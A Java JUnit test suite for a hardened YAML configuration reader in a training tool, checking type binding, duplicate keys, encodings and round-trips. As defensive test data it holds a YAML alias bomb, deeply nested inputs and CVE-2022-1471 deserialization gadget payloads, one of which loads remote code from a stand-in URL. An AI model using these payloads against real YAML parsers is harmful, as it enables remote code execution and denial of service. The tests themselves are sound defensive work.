package dev.manners.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.manners.BadInput;
import dev.manners.train.SftConfig;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What a configuration file may say, and what it may not.
class YamlTest {

    @TempDir
    Path folder;

    private Path file(String text) throws IOException {
        return Files.writeString(folder.resolve("options.yaml"), text);
    }

    private SftConfig bind(String text) throws IOException {
        return new Options().yaml(file(text)).bind(SftConfig.class);
    }

    private void refused(String text, String... reasons) throws IOException {
        Path file = file(text);
        assertThatThrownBy(() -> Yaml.read(file))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("options.yaml")
                .hasMessageContainingAll(reasons);
    }

    /// The same letters are a flag, a number or a text, by what they are given for; YAML alone would guess.
    @Test
    void cf02_aScalarIsWhatItIsAskedToBe() throws IOException {
        SftConfig config = bind("""
                packing: no
                bf16: off
                learning_rate: 1e-5
                weight_decay: .5
                per_device_train_batch_size: 08
                max_steps: 1_000
                """);
        assertThat(config.packing()).isFalse();
        assertThat(config.training().bf16()).isFalse();
        assertThat(config.learningRate()).isEqualTo(1e-5);
        assertThat(config.training().weightDecay()).isEqualTo(0.5);
        assertThat(config.training().perDeviceTrainBatchSize()).isEqualTo(8);
        assertThat(config.training().maxSteps()).isEqualTo(1000);
        for (String name : List.of("no", "08", "1e-5", "on", "2026-01-01", "0o17")) {
            assertThat(bind("dataset_text_field: " + name).datasetTextField()).isEqualTo(name);
        }
    }

    /// Java's own parser of numbers takes all of these.
    @ParameterizedTest
    @ValueSource(strings = {"8d", "8f", "0x10", "0x1p3", "1e", "--8", "8 8", "1,000", "eight"})
    void cf02_whatIsNoNumberIsRefused(String text) throws IOException {
        Path file = file("per_device_train_batch_size: '" + text + "'\nlearning_rate: '" + text + "'");
        assertThatThrownBy(() -> new Options().yaml(file).bind(SftConfig.class))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("options.yaml:1:")
                .hasMessageContaining("per_device_train_batch_size is " + text + ", expected a whole number")
                .hasMessageContaining("learning_rate is " + text + ", expected a number");
    }

    @Test
    void cf02_aKeyGivenTwiceIsRefusedHoweverItIsWritten() throws IOException {
        refused("max_length: 1\nseed: 2\nmax_length: 3\n", "max_length");
        refused("sft:\n  seed: 1\nsft.seed: 2\n", "key sft.seed is given twice", "options.yaml:2:");
        Path file = file("max_length: 1\nmax-length: 2\n");
        assertThatThrownBy(() -> new Options().yaml(file))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("option max_length is given twice")
                .hasMessageContaining("options.yaml:1:")
                .hasMessageContaining("options.yaml:2:");
    }

    /// Nine levels of nine references would be 387 million values.
    @Test
    void cf02_anAliasBombDoesNotGoOff() {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char level = 'b'; level < 'j'; level++) {
            String before = "*" + (char) (level - 1);
            bomb.append(level + ": &" + level + " [" + (before + ", ").repeat(8) + before + "]\n");
        }
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(5), () -> refused(bomb.toString(), "anchors and aliases are not allowed"));
    }

    /// An anchor on a plain value that nothing refers to is only an odd way to write it: the parser does not
    /// show it.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: &x 1\nb: *x\n",
                "a: &x {b: 1}\n",
                "a: &x [1]\n",
                "&x {a: 1}\n",
                "base: &x\n  a: 1\nsft:\n  <<: *x\n"
            })
    void cf02_anchorsAndAliasesAreRefused(String text) throws IOException {
        refused(text, "anchors and aliases are not allowed; write the value out");
    }

    /// CVE-2022-1471: a tag names a Java class, and other loaders make one.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
                "a: !!javax.script.ScriptEngineManager {}\n",
                "a: [!!java.lang.Runtime x]\n",
                "!!javax.script.ScriptEngineManager {a: 1}\n",
                "a: !!int 1\n",
                "a: !local 1\n"
            })
    void cf02_tagsAreRefused(String text) throws IOException {
        refused(text, "tag", "is not allowed; write a plain value");
    }

    @Test
    void cf02_aTagOnWhatIsNoMappingIsRefused() throws IOException {
        refused("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]\n", "expected keys and values");
    }

    @Test
    void cf02_oneDocumentOneMapping() throws IOException {
        refused("a: 1\n---\nb: 2\n", "a second document");
        refused("- a\n- b\n", "expected keys and values");
        refused("just text\n", "expected keys and values");
        refused("a: [[1]]\n", "expected a list of plain values");
        assertThat(Yaml.read(file(""))).isEmpty();
        assertThat(Yaml.read(file("# nothing\n"))).isEmpty();
    }

    @Test
    void cf02_notUtf8() throws IOException {
        Path file = folder.resolve("options.yaml");
        Files.write(file, "dataset_text_field: f\u00fcr\n".getBytes(StandardCharsets.ISO_8859_1));
        assertThatThrownBy(() -> Yaml.read(file))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("options.yaml: cannot be read as UTF-8 text");
        Files.write(file, "seed: 1\n".getBytes(StandardCharsets.UTF_16));
        assertThatThrownBy(() -> Yaml.read(file)).isInstanceOf(BadInput.class).hasMessageContaining("UTF-8");
        Files.write(file, "\uFEFFseed: 1\n".getBytes(StandardCharsets.UTF_8));
        assertThat(Yaml.read(file)).containsOnlyKeys("seed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: [1",
                "a:\t- b\n\t- c",
                "a: 'open",
                "a: b: c",
                "a: \"\\q\"",
                "{a: 1",
                "a: |x\n  b",
                "a: \u0001"
            })
    void cf02_whatIsNoYamlIsRefusedWithItsPlace(String text) throws IOException {
        refused(text, "not valid YAML");
    }

    /// Each level is a call of ours: a deep file may not overflow the stack.
    @ParameterizedTest
    @ValueSource(strings = {"{a: ", "{a: ["})
    void cf02_nestedWithoutEnd(String level) throws IOException {
        Path file = file(level.repeat(50_000));
        assertThatThrownBy(() -> Yaml.read(file)).isInstanceOf(BadInput.class);
    }

    @Test
    void tooLargeIsNotRead() throws IOException {
        refused("a: " + "x".repeat(1 << 20), "a configuration has at most");
    }

    /// config.yaml of a run can be given to --config: what is written is what is read.
    @Test
    void whatIsWrittenIsReadBack() throws IOException {
        Map<String, Object> values = new LinkedHashMap<>();
        List<String> texts = List.of(
                "a: b",
                "# x",
                "- a",
                "--x",
                "-1",
                "'",
                "\"",
                "\\",
                "a\nb",
                " a ",
                "",
                "[x]",
                "{x}",
                "*a",
                "&a",
                "!a",
                "%a",
                "@a",
                "`a",
                "a, b",
                "f\u00fcr \ud83e\udd9c",
                "/a/b c",
                "?",
                "? a",
                "a:",
                ":",
                "yes",
                "1e-5",
                "a #b",
                "\t",
                "\u2028",
                "\u0085",
                "|",
                ">",
                "a/../b");
        for (int i = 0; i < texts.size(); i++) {
            values.put("k" + i, texts.get(i));
        }
        values.put("all", texts);
        Map<String, Yaml.Entry> read = Yaml.read(file(Yaml.write(values)));
        values.forEach((key, value) -> assertThat(read.get(key))
                .as(value.toString())
                .isNotNull()
                .extracting(Yaml.Entry::value)
                .isEqualTo(value));
    }

    @Test
    void everyOptionSurvivesBeingWrittenDown() throws IOException {
        SftConfig config = bind("""
                learning_rate: 3e-7
                packing: true
                packing_strategy: wrapped
                max_steps: 9000000000
                bf16: true
                seed: 12345
                lr_scheduler_type: constant_with_warmup
                """);
        assertThat(bind(Yaml.write(Options.toMap(config)))).isEqualTo(config);
    }
}
